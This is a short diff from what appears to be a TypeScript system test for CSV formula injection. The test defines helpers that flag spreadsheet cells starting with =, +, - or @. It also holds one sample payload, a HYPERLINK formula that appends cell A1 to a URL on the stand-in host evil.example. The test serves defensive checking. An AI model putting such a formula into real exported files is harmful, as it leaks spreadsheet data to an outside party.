@@ -8,7 +8,7 @@ import { admin, adminToken, ask, eventually, signIn } from '../system.ts';
 const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")';
 const PHONE = '+201001234567';
 
-/** Cells of a CSV file: what a spreadsheet would look at. */
+/** Cells as a spreadsheet would read them. */
 const cells = (csv: string) => [...csv.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,\n]*)/gm)].map(([, cell = '']) => cell.replace(/^"|"$/g, ''));
 const live = (csv: string) =>
 	cells(csv.replace(/^\ufeff/, '')).filter((cell) => /^\s*[=+\-@]/.test(cell) && !/^(\+\d+|-[\d.]+)$/.test(cell));
